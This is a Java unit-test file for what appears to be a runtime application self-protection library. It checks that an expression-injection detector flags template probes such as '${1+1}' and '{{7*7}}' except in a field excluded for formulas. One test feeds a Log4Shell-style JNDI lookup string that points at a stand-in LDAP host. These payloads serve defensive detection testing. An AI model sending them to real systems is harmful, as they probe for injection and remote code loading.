package io.github.raspspring.attack.expression;

import java.util.List;
import java.util.Map;
import java.util.Set;

import io.github.raspspring.attack.Judgement;
import io.github.raspspring.engine.Confidence;
import io.github.raspspring.engine.EnforcementMode;
import io.github.raspspring.engine.FailureMode;
import io.github.raspspring.engine.Finding;
import io.github.raspspring.engine.InputLocation;
import io.github.raspspring.engine.Policy;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Expressions where an endpoint is made for them: nothing tells them from a probe, so
 * they are refused until the application excludes the field, and the remedy says how.
 */
class ExpressionFieldTests {

	private static final Policy RULES = new Policy("rules", EnforcementMode.BLOCK, 5, FailureMode.OPEN, Set.of(),
			Map.of(), Map.of(), Set.of(), FailureMode.OPEN, Map.of("expression-injection", Set.of("/formula")),
			Policy.Limits.NONE);

	private final Judgement judgement = Judgement.byAll();

	@ParameterizedTest
	@ValueSource(strings = { "#{1+1}", "${1+1}", "*{2*3}", "%{7*7}", "{{7*7}}", "#{ 1 + 1 }", "${{3*3}}", "@{6+6}" })
	void excludesWhenFieldIsMadeForExpressionsThenLeavesItAlone(String expression) {
		List<Finding> findings = refused("/formula", expression);
		assertThat(findings).isNotEmpty().allMatch(RULES::excludes);
		assertThat(refused("/title", expression)).isNotEmpty().noneMatch(RULES::excludes);
	}

	@ParameterizedTest
	@ValueSource(strings = { "1+1", "price * 2", "#{1}", "${total}", "{{ count + 1 }}", "#{n-1}", "(1+1)*2", "=1+1" })
	void detectWhenFieldHoldsFormulaThenPasses(String formula) {
		assertThat(refused("/formula", formula)).isEmpty();
	}

	@Test
	void remedyWhenLiteralsAreComputedThenTellsHowToExclude() {
		assertThat(ExpressionInjectionDetector.LITERAL_PROBE.remedy()).contains("excluded-values");
	}

	@Test
	void excludesWhenAnotherDetectorSeesSomethingThenJudges() {
		assertThat(refused("/formula", "${jndi:ldap://x.example/a}")).anyMatch((finding) -> !RULES.excludes(finding));
	}

	private List<Finding> refused(String name, String value) {
		return this.judgement.at(InputLocation.JSON, name)
			.of(value)
			.stream()
			.filter((finding) -> finding.confidence() != Confidence.WEAK)
			.toList();
	}

}
